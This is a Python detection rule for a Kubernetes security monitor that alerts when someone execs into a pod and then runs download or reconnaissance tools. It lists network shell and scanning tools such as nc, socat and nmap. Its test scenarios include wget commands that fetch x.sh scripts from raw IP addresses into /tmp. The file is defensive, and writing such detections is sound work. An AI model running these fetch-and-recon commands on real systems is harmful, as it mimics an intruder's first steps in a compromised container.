"""Exec into a pod, then download, package-install or reconnaissance tools run in that pod: someone working
inside a container, with the API identity that let them in."""

from typing import Any

from vigil.detections.k8s import request_query
from vigil.detections.sdk import Scenario, ScenarioEvent, SequenceDetection, Step
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.audit.fixtures import audit_record
from vigil.sources.fixtures import EXAMPLE_START_NS, in_pod
from vigil.sources.tetragon.fixtures import tetragon_record

#: Programs that fetch, install or look around: what an intruder runs first in a container.
TOOLS = frozenset({
    "curl", "wget", "nc", "ncat", "netcat", "socat", "apt", "apt-get", "apk", "yum", "dnf", "pip", "pip3",
    "nmap", "masscan", "kubectl", "crictl", "docker", "tcpdump", "ssh", "scp",
})


def is_exec(event: Event) -> bool:
    target = event.target
    return target.resource == "pods" and target.subresource in ("exec", "attach") and event.action in ("create", "get")


def exec_context(event: Event) -> dict[str, Any]:
    return {"command": " ".join(request_query(event).get("command", [])), "exec_user": event.actor.user}


def is_tool(event: Event) -> bool:
    """A tool by the program it runs: in a busybox image ``wget`` executes /bin/busybox (the applet is argv[0])."""
    return program_name(event) in TOOLS


EXEC = audit_record("create", "pods", name="web-7f9c", subresource="exec", code=101,
                    query="command=bash&container=app&stdin=true&tty=true")


def run(binary: str, arguments: str = "", pod: str = "web-7f9c") -> dict:
    return tetragon_record(binary=binary, arguments=arguments, parent="/bin/bash", pod=pod)


def busybox_applet(applet: str, arguments: str) -> dict:
    """A busybox applet as the eBPF sensor reports it: the executable is busybox, argv[0] names the applet."""
    record = {"type": "exec", "time_ns": EXAMPLE_START_NS, "pid": 912, "tid": 912, "ppid": 900, "uid": 0, "gid": 0,
              "comm": applet, "cgroup_id": 9120, "args": [applet, *arguments.split()], "exe": "/bin/busybox",
              "cwd": "/", "parent_exe": "/bin/busybox", "euid": 0, "egid": 0}
    return in_pod(record, namespace="default", pod="web-7f9c", container="app", image="busybox:1.36")


DETECTION = SequenceDetection(
    id="seq.exec_then_tooling",
    title="Exec into a pod, then download or reconnaissance tools in it",
    alert_title="{exec_user} exec'd into {namespace}/{pod} and ran {program}",
    description=(
        "Within five minutes of an exec or attach through the API, a download, package-install, network or "
        "cluster tool (curl, wget, apt, nc, nmap, kubectl, …) ran in that pod. An exec alone is often an operator; "
        "fetching tools right after is what intruders do first, and the alert names the identity that got in."
    ),
    severity="high",
    mitre=["T1609", "T1105"],
    tags=["sequence", "kubernetes", "runtime", "execution"],
    references=["https://attack.mitre.org/techniques/T1609/", "https://attack.mitre.org/techniques/T1105/"],
    false_positives=["Operators installing debugging tools in a pod they exec'd into."],
    max_span_s=300,
    steps=[
        Step(name="exec", kinds=["k8s.api"], sources=["k8s-audit"], match=is_exec, context=exec_context,
             resources=["pods"], subresources=["exec", "attach"], actions=["create", "get"]),
        Step(name="tool", kinds=["process.exec"], match=is_tool, exe_names=TOOLS,
             context=lambda e: {"exe": e.actor.exe, "program": program_name(e), "args": " ".join(e.actor.args)}),
    ],
    dedup="{cluster}/{namespace}/{pod}/{exec_user}",
    examples=[
        Scenario(name="exec, then wget a script", fires=True, events=[
            ScenarioEvent(source="k8s-audit", record=EXEC, at_s=0),
            ScenarioEvent(source="tetragon", record=run("/usr/bin/wget", "http://45.33.32.156/x.sh"), at_s=25),
        ]),
        Scenario(name="runtime event before the batched audit record: apt-get install", fires=True, events=[
            ScenarioEvent(source="tetragon", record=run("/usr/bin/apt-get", "install -y nmap"), at_s=8),
            ScenarioEvent(source="k8s-audit", record=EXEC, at_s=2),
        ]),
        Scenario(name="exec, then busybox's wget applet (eBPF sensor)", fires=True, events=[
            ScenarioEvent(source="k8s-audit", record=EXEC, at_s=0),
            ScenarioEvent(source="ebpf", record=busybox_applet("wget", "-q -O /tmp/x.sh http://198.51.100.7/x.sh"),
                          at_s=20),
        ]),
        Scenario(name="exec, then busybox's ls applet", fires=False, events=[
            ScenarioEvent(source="k8s-audit", record=EXEC, at_s=0),
            ScenarioEvent(source="ebpf", record=busybox_applet("ls", "-la"), at_s=20),
        ]),
        Scenario(name="exec, then ls", fires=False, events=[
            ScenarioEvent(source="k8s-audit", record=EXEC, at_s=0),
            ScenarioEvent(source="tetragon", record=run("/bin/ls", "-la"), at_s=5),
        ]),
        Scenario(name="the application's own curl health check, no exec", fires=False, events=[
            ScenarioEvent(source="tetragon", record=run("/usr/bin/curl", "-s localhost:8080/healthz"), at_s=5),
        ]),
        Scenario(name="tool in another pod", fires=False, events=[
            ScenarioEvent(source="k8s-audit", record=EXEC, at_s=0),
            ScenarioEvent(source="tetragon", record=run("/usr/bin/wget", "http://x", pod="db-0"), at_s=5),
        ]),
    ],
)
